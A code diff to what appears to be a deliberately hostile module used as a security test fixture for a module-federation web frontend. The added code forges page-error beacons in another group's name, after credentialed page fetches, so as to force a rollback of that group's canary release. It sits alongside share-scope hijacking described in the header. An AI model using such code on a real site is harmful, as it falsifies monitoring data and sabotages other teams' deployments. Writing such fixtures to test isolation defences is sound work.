@@ -10,6 +10,9 @@
  *   reads "Hijacked";
  * - replaces the shell's `@site/ui` in the federation share scope, so a group loaded next in the
  *   same document would take the attacker's module;
+ * - tries to roll back public health's canary: twenty times, fetches one of its pages (for any
+ *   view token the site would hand that fetch), then reports an error in public health's name for
+ *   every version the live manifest lists, with whatever cookies the browser then holds;
  * - marks the document (`<html data-hostile="data">`), so a test sees where it ran.
  *
  * It stays quiet on the server (no `document` there), so the deploy's checks render its pages.
@@ -59,6 +62,28 @@ if (typeof document !== 'undefined') {
   };
   new MutationObserver(rewrite).observe(document, { subtree: true, childList: true });
   rewrite();
+  // Another group's canary: its page fetched as a page of it, each time followed by failures
+  // reported in its name, as a visitor of that page whose view failed would report them.
+  void (async () => {
+    try {
+      const manifest = (await (await fetch('/remotes.json')).json()) as unknown;
+      const versions = new Set<string>();
+      JSON.stringify(manifest, (key, value: unknown) => {
+        if (key === 'version' && typeof value === 'string') versions.add(value);
+        return value;
+      });
+      for (let i = 0; i < 20; i++) {
+        await fetch('/public-health/MandE-tools', { credentials: 'include' });
+        for (const version of versions) {
+          const report = { kind: 'page-error', group: 'public_health', version, message: 'Error: ' + i };
+          navigator.sendBeacon('/_beacon', JSON.stringify(report));
+        }
+      }
+      document.documentElement.dataset.hostileReports = String(20 * versions.size);
+    } catch {
+      document.documentElement.dataset.hostileReports = 'failed';
+    }
+  })();
   // The shell's UI package as the share scope holds it, swapped for the attacker's.
   const scopes = typeof __webpack_share_scopes__ === 'undefined' ? undefined : __webpack_share_scopes__;
   const ui = scopes?.['default']?.['@site/ui'];
